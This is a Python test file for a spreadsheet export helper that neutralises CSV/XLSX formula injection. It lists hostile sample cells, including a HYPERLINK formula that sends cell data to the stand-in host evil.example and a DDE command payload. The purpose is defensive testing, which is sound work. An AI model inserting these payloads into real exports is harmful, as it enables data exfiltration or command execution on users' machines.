"""Formula injection: the one helper every CSV and XLSX export goes through (lib/spreadsheets).

The sweep of the real exports with hostile names is tests/insights/test_export_formulas.py.
"""

import csv
import datetime
import io
import pathlib

import pytest
from openpyxl import load_workbook

from komunitas.lib import spreadsheets

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe_in_csv(text):
    out = io.StringIO()
    spreadsheets.csv_writer(out).writerow([text, "Budi", 3])
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == [f"'{text}", "Budi", "3"]


def test_numbers_dates_and_plain_text_pass_unchanged():
    assert spreadsheets.neutralise(-5) == -5
    assert spreadsheets.neutralise("Rapat 3 - asesmen") == "Rapat 3 - asesmen"
    assert spreadsheets.neutralise("") == ""
    day = datetime.date(2026, 3, 1)
    assert spreadsheets.neutralise(day) == day


def test_no_xlsx_cell_is_ever_a_formula_and_dangerous_text_is_quoted():
    sheet = spreadsheets.Sheet("Data")
    for text in HOSTILE:
        sheet.append([text, 7, "#N/A", "teks\x01biasa"])
    book = load_workbook(io.BytesIO(spreadsheets.xlsx_bytes([sheet])))
    for index, row in enumerate(book["Data"].iter_rows(), start=0):
        assert [cell.data_type for cell in row] == ["s", "n", "s", "s"]
        assert row[0].value.strip() == HOSTILE[index].strip()
        assert row[0].quotePrefix
        assert row[3].value == "teksbiasa"  # a control character would have refused the book


def test_no_module_writes_csv_or_xlsx_but_the_helper():
    """Any new export must go through lib/spreadsheets, or its cells escape the rule."""
    root = pathlib.Path(spreadsheets.__file__).resolve().parents[1]
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheets.py" or "migrations" in path.parts:
            continue
        text = path.read_text()
        # Reading a file (onboarding's load_workbook, csv.reader) is not writing one.
        writes = ("csv.writer(", "csv.DictWriter(", "Workbook(", "xlsxwriter")
        if any(s in text for s in writes):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
